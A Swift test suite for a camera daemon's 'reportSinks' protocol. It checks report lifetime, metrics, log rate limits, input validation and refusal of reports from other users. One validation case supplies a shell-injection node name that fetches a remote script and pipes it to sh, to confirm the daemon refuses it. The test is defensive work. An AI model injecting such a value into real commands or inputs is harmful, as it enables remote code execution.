import FoldcamCore
import FoldcamTestSupport
import Glibc
import Testing

/// Sinks foldcamd cannot see (a session's PipeWire nodes) as their companion reports them
/// (`reportSinks`, docs/protocol.md "Sink reports", docs/security.md): a report belongs to its
/// connection, `state` and the metrics show it, bad reports are refused naming what was wrong,
/// and a stranger cannot make the daemon claim one.
@Suite("sink reports")
struct SinkReportTests {
    static func sink(_ camera: String, _ node: String, _ state: String, reason: String? = nil) -> JSONValue {
        var members: [(String, JSONValue)] = [("virtualCamera", .string(camera)), ("node", .string(node)), ("state", .string(state))]
        if let reason { members.append(("reason", .string(reason))) }
        return .object(members)
    }

    static func report(_ sinks: JSONValue...) -> JSONValue { .params(("sinks", .array(sinks))) }

    @Test("a report shows in state and the metrics while its connection is open, a new one replaces it, and nothing is claimed once it closes")
    func reportLivesWithItsConnection() throws {
        let daemon = try RunningDaemon()
        let observer = try daemon.connect()
        #expect(try observer.result("state")["sinks"] == .array([]), "nothing is claimed before a report")
        #expect(try observer.result("metrics")["text"]?.stringValue?.contains("foldcam_sink_state{") == false)

        let companion = try daemon.connect()
        let reply = try companion.result("reportSinks", Self.report(Self.sink("viewed", "foldcam.viewed", "streaming")))
        let shown: JSONValue = .array([.object([("virtualCamera", .string("viewed")), ("kind", .string("pipewire")), ("node", .string("foldcam.viewed")), ("state", .string("streaming"))])])
        #expect(reply["sinks"] == shown)
        #expect(try observer.result("state")["sinks"] == shown)
        let metrics = try observer.result("metrics")["text"]?.stringValue ?? ""
        #expect(metrics.contains(#"foldcam_sink_state{virtual_camera="viewed",kind="pipewire",node="foldcam.viewed",state="streaming"} 1"#), "\(metrics)")
        #expect(metrics.contains(#"foldcam_sink_state{virtual_camera="viewed",kind="pipewire",node="foldcam.viewed",state="idle"} 0"#), "\(metrics)")

        _ = try companion.result("reportSinks", Self.report(Self.sink("viewed", "foldcam.viewed", "unavailable", reason: "foldcamd has no source")))
        guard case let .array(list)? = try observer.result("state")["sinks"] else { throw HarnessError("state.sinks missing") }
        #expect(list.count == 1, "a new report replaces the connection's old one")
        #expect(list.first?["state"] == .string("unavailable") && list.first?["reason"] == .string("foldcamd has no source"), "\(JSONValue.array(list).compactText)")

        companion.close()
        #expect(daemon.waitForLog("disconnected; the sinks it reported (foldcam.viewed) are no longer claimed"), "\(daemon.stderr)")
        #expect(try observer.result("state")["sinks"] == .array([]))
        #expect(try observer.result("metrics")["text"]?.stringValue?.contains("foldcam_sink_state{") == false)
    }

    @Test("a client changing its report in a loop cannot flood the journal: its lines keep to the user's log budget")
    func reportLogsAreBudgeted() throws {
        let daemon = try RunningDaemon()
        let lines = try Self.reportTwelveTimes(daemon)
        #expect(lines.count == 5, "\(lines)")
    }

    /// A companion flips its report 12 times; the sink lines the journal got.
    static func reportTwelveTimes(_ daemon: RunningDaemon) throws -> [Substring] {
        let companion = try daemon.connect()
        for index in 0..<12 {
            _ = try companion.result("reportSinks", Self.report(Self.sink("viewed", "foldcam.viewed", index % 2 == 0 ? "idle" : "streaming")))
        }
        #expect(daemon.waitForLog("(further such lines held back for"), "\(daemon.stderr)")
        return daemon.stderr.split(separator: "\n").filter { $0.contains("sinks: uid") && $0.contains(" reports ") }
    }

    @Test("sink reports share the one log budget of their user with everything else it causes, on any connection")
    func reportLogsShareTheUsersBudget() throws {
        let daemon = try RunningDaemon()
        let other = try daemon.connect()
        for _ in 0..<3 {
            #expect(other.sendLine("not json"))
            _ = try other.readMessage()
        }
        let lines = try Self.reportTwelveTimes(daemon)
        #expect(lines.count == 2, "three bad requests used three of the user's five lines: \(lines)")
    }

    @Test("[] withdraws a report")
    func emptyWithdraws() throws {
        let daemon = try RunningDaemon()
        let companion = try daemon.connect()
        _ = try companion.result("reportSinks", Self.report(Self.sink("viewed", "foldcam.viewed", "idle")))
        #expect(try companion.result("reportSinks", Self.report())["sinks"] == .array([]))
        #expect(try companion.result("state")["sinks"] == .array([]))
    }

    @Test("bad reports are refused naming the member, with the nearest valid name")
    func badReportsAreRefused() throws {
        let daemon = try RunningDaemon()
        let client = try daemon.connect()
        let cases: [(JSONValue, String)] = [
            (.params(), "params.sinks: missing"),
            (.params(("sinks", .string("x"))), "params.sinks: expected an array"),
            (Self.report(Self.sink("viewd", "foldcam.viewed", "idle")), "no virtual camera \"viewd\"; did you mean \"viewed\"?"),
            (Self.report(Self.sink("viewed", "foldcam.viewed", "streamin")), "unknown state \"streamin\"; did you mean \"streaming\"?"),
            (Self.report(Self.sink("viewed", "foldcam.viewed", "idle", reason: "why")), "only an unavailable sink has a reason"),
            (Self.report(Self.sink("viewed", "foldcam\u{1b}[2J", "idle")), "params.sinks[0].node: \"foldcam\\u{1b}[2J\" must be 1 to 128 bytes of printable text"),
            (Self.report(Self.sink("viewed", String(repeating: "n", count: 129), "idle")), "params.sinks[0].node:"),
            // Shell syntax: the name is shown to other users inside a suggested command.
            (Self.report(Self.sink("viewed", "x;curl${IFS}e.org|sh", "idle")), "is not a PipeWire node name (letters, digits and . _ : - only)"),
            (Self.report(.object([("virtualCamera", .string("viewed")), ("nodes", .string("x")), ("state", .string("idle"))])), "unknown member \"nodes\"; did you mean \"node\"?"),
            (Self.report(Self.sink("viewed", "a", "idle"), Self.sink("viewed", "b", "idle")), "2 sinks, but this daemon has 1 virtual camera"),
        ]
        for (params, wanted) in cases {
            let reply = try client.call("reportSinks", params)
            #expect(reply[path: "error", "code"] == .string("invalidParams"), "\(params.compactText): \(reply.compactText)")
            let message = reply[path: "error", "message"]?.stringValue ?? ""
            #expect(message.contains(wanted), "\(params.compactText): \(message)")
        }
        #expect(try client.result("state")["sinks"] == .array([]), "no refused report is stored")
    }

    @Test("the cameras a companion sees in PipeWire show in state while its connection is open; bad ones are refused naming what was wrong")
    func camerasSeenInPipeWire() throws {
        let directory = try TemporaryDirectory()
        // The duo rig with its inner front camera matched to a PipeWire node.
        try CheckConfigTests.duo(directory, name: "pw.json") {
            $0.replacingFirst(#""id": "inner-front","#, with: #""id": "inner-front", "pipewire": {"libcameraLocation": "front"},"#)
        }
        let daemon = try RunningDaemon(arguments: ["--rig", directory.file("pw.json")])
        let observer = try daemon.connect()
        #expect(try observer.result("state")["camerasInPipeWire"] == .array([]))
        let companion = try daemon.connect()
        let seen: JSONValue = .array([.object([("camera", .string("inner-front")), ("node", .string("libcamera_input._SB_.PCI0.I2C2.CAM0"))])])
        let reply = try companion.result("reportSinks", .params(("sinks", .array([])), ("cameras", seen)))
        #expect(reply["camerasInPipeWire"] == seen, "\(reply.compactText)")
        #expect(try observer.result("state")["camerasInPipeWire"] == seen)
        #expect(daemon.waitForLog("sees in PipeWire camera inner-front"), "\(daemon.stderr)")

        let cases: [(JSONValue, String)] = [
            (.array([.object([("camera", .string("inner-frnt")), ("node", .string("n"))])]), "rig duo has no camera \"inner-frnt\"; did you mean \"inner-front\"?"),
            (.array([.object([("camera", .string("outer-front")), ("node", .string("n"))])]), "rig camera \"outer-front\" has no \"pipewire\" match"),
            (.array([.object([("camera", .string("inner-front")), ("nod", .string("n"))])]), "unknown member \"nod\"; did you mean \"node\"?"),
            (.array([.object([("camera", .string("inner-front")), ("node", .string("a\u{202E}b"))])]), "params.cameras[0].node:"),
            (.array([.object([("camera", .string("inner-front")), ("node", .string("a"))]), .object([("camera", .string("inner-front")), ("node", .string("b"))])]), "is reported twice"),
            (.string("x"), "params.cameras: expected an array"),
        ]
        for (cameras, wanted) in cases {
            let answer = try companion.call("reportSinks", .params(("sinks", .array([])), ("cameras", cameras)))
            #expect(answer[path: "error", "code"] == .string("invalidParams"), "\(cameras.compactText): \(answer.compactText)")
            let message = answer[path: "error", "message"]?.stringValue ?? ""
            #expect(message.contains(wanted), "\(cameras.compactText): \(message)")
        }
        #expect(try observer.result("state")["camerasInPipeWire"] == seen, "a refused report leaves the last one")
        companion.close()
        #expect(daemon.waitForLog("camera inner-front in libcamera_input._SB_.PCI0.I2C2.CAM0) are no longer claimed"), "\(daemon.stderr)")
        #expect(try observer.result("state")["camerasInPipeWire"] == .array([]))
    }

    @Test("a stranger may not report a sink (frames class); state still claims none")
    func strangersCannotClaimSinks() throws {
        try #require(OtherUser.available, "needs root to run a client as another user (setpriv); CI runs as root")
        let daemon = try RunningDaemon()
        let script = try OtherUser.script(OtherUser.requestsScript, named: "client.pl", in: daemon.directory)
        let request = #"{"id": 1, "method": "reportSinks", "params": {"sinks": [{"virtualCamera": "viewed", "node": "foldcam.viewed", "state": "streaming"}]}}"#
        let stranger = try OtherUser.start("/usr/bin/perl", [script, daemon.socketPath, request, #"{"id": 2, "method": "state"}"#], in: daemon.directory, name: "stranger")
        #expect(stranger.exitCode(timeout: .seconds(30)) == 0, "client failed: \(stranger.stderr)")
        let replies = OtherUser.replies(stranger)
        try #require(replies.count == 2, "replies: \(stranger.stdout)")
        #expect(replies[0][path: "error", "code"] == .string("forbidden"), "\(replies[0].compactText)")
        #expect(replies[1][path: "result", "sinks"] == .array([]))
    }
}
